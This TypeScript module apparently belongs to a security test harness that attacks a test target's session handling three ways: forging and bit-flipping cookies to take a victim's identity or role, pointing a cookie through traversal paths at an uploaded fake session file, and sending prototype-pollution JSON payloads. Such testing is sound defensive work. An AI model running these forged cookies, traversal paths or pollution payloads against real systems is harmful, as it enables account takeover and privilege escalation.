import assert from 'node:assert/strict'
import { attackerClient } from './attacker-client.ts'
import { begunSession } from './fixation.ts'
import { type Attack, attacker, inWords, victim } from './target.ts'

/** A user without rights changes their own cookies: what can be read in them, and every character one after the other. */
export const tampering: Attack = async (target) => {
  const client = attackerClient(target)
  await client.logIn()
  const cookies = client.jar.list().map(({ name, value }) => [name, value] as const)
  const own = await target.whoIs(cookies.map((pair) => pair.join('=')).join('; '))
  assert.equal(own.userId, attacker.name)

  const readable: string[] = []
  let tried = 0
  for (const [changedName, value] of cookies) {
    const text = Buffer.from(value, 'base64').toString()
    if (/^\{"/.test(text)) readable.push(`${changedName} says ${text}`)
    const raised = Buffer.from(text.replaceAll(/"(user|admin)"(?=\})/g, `"${victim.name}"`)).toString('base64')
    const flipped = Array.from(value, (character, index) => {
      const other = character === 'A' ? 'B' : 'A'
      return value.slice(0, index) + other + value.slice(index + 1)
    })
    for (const forged of readable.length > 0 ? [raised] : flipped) {
      tried++
      const header = cookies.map(([name, value]) => `${name}=${name === changedName ? forged : value}`).join('; ')
      const holder = await target.whoIs(header)
      if (holder.userId === victim.name || (holder.role ?? own.role) !== own.role) {
        const status = await client.get('/dashboard', header)
        return {
          succeeded: true,
          evidence: `${readable.join()}; changed, it makes them ${inWords(holder)} (${status})`,
        }
      }
    }
  }
  const readableWords = readable.length === 0 ? 'nothing in the cookies can be read' : readable.join()
  return { succeeded: false, evidence: `${readableWords}; ${tried} changed ones give no other rights` }
}

/** A file that looks like a session is uploaded as a photo, and a cookie leads the server to it. */
export const pathTraversal: Attack = async (target) => {
  const client = attackerClient(target)
  const place = await target.upload(JSON.stringify({ user: victim.name, userId: victim.name, role: 'admin' }))
  const ways = [place, `x/../${place}`, `/${place}`, `x%2f..%2f${encodeURIComponent(place)}`, '../../../../photo']
  const answers: string[] = []
  for (const way of ways) {
    const cookie = `${target.cookieName()}=${way}`
    const status = await client.get('/dashboard', cookie)
    const holder = await target.whoIs(cookie)
    if (holder.userId === victim.name) {
      return { succeeded: true, evidence: `the cookie ${way} belongs to ${inWords(holder)} (${status})` }
    }
    answers.push(`${status}`)
  }
  return { succeeded: false, evidence: `${ways.length} paths as cookies opened nothing: ${answers.join(', ')}` }
}

/** JSON with keys that reach for `Object.prototype` is stored in a session, and loaded again. */
export const prototypePollution: Attack = async (target) => {
  const cookie = await begunSession(target)
  const client = attackerClient(target)
  const payloads = ['{"__proto__":{"role":"admin"}}', '{"constructor":{"prototype":{"role":"admin"}}}']
  const statuses: number[] = []
  for (const body of payloads) {
    statuses.push(await client.send('/preferences', body, cookie))
  }
  assert.equal(({} as { role?: unknown }).role, undefined, 'this very process')
  const [self, stranger] = [await target.whoIs(cookie), await target.whoIs(await begunSession(target))]
  return {
    succeeded: self.role === 'admin' || stranger.role === 'admin',
    evidence: `stored with ${statuses.join(' and ')}; after that the sender is ${inWords(self)}, a stranger is ${inWords(stranger)}`,
  }
}
